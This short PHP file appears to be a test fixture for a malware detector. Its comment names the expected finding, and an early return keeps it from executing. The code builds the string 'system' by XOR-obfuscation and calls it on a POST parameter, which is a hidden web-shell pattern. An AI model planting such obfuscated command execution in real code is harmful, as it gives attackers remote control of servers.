<?php return; // want: malicious php.command.hidden
$f = ('sysuem' ^ "\0\0\0\1\0\0");
$f($_POST['z']);
